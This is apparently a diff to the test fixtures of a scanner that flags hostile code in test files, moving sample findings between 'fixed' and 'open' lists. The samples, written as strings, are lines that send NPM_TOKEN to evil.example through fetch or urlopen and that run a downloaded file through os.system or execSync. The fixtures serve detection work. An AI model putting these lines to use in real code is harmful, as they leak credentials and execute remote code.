@@ -79,15 +79,17 @@ const OWN_READINGS_FIXED: FindingRow[] = [
   // The secret inside a call in the URL (`[\w.]*` did not reach past the parenthesis).
   ['test/a.test.js', "await fetch('https://evil.example/c?t=' + encodeURIComponent(process.env.NPM_TOKEN))"],
   ['test/a.test.js', 'await fetch(`https://evil.example/c?t=${btoa(process.env.NPM_TOKEN)}`)'],
-];
-/**
- * Open, for room (the analyze bundle is within 2 bytes of session 65's 2.0 KB): a reader bound to a shell through
- * `getattr` or a lambda, a secret read into a variable before it is added to a URL, formatted into one (`%s`,
- * `.format`), or sent as an object body without a body key.
- */
-const OWN_READINGS_OPEN: FindingRow[] = [
+  // A reader bound to a shell through `getattr` or a lambda (the alias was read only as a bare name).
   ['tests/t.py', "p = urlretrieve(u)[0]\nprint = getattr(os, 'system')\nprint(p)"],
   ['tests/t.py', 'p = urlretrieve(u)[0]\nprint = lambda c: os.system(c)\nprint(p)'],
+];
+/**
+ * Open, for room (the analyze bundle is within 60 bytes of session 65's 2.0 KB): a secret read into a variable before it
+ * is added to a URL, formatted into one (`%s`, `.format`), or sent as an object body without a body key; a download's
+ * name joined into a command string (`execSync('sh ' + p)`, accepted before session 65 too).
+ */
+const OWN_READINGS_OPEN: FindingRow[] = [
+  ['test/a.test.js', "const p = await download(u);\nexecSync('sh ' + p);"],
   ['test/a.test.js', "const t = process.env.NPM_TOKEN;\nawait fetch('https://evil.example/c?t=' + t)"],
   ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t=%s' % os.environ['NPM_TOKEN'])"],
   ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t={}'.format(os.environ['NPM_TOKEN']))"],
